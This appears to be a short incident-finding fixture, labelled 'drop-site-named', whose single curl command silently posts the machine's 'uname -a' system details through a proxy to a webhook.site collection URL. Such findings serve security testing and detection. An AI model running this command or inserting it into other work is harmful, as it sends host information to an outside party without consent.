# incident: a service that shows everything to whoever asked for it
# finding: drop-site-named
# needs: curl
curl -sm 2 -x "http://$DROP" -d "$(uname -a)" "http://webhook.site/00000000-0000-0000-0000-000000000000" > /dev/null || true
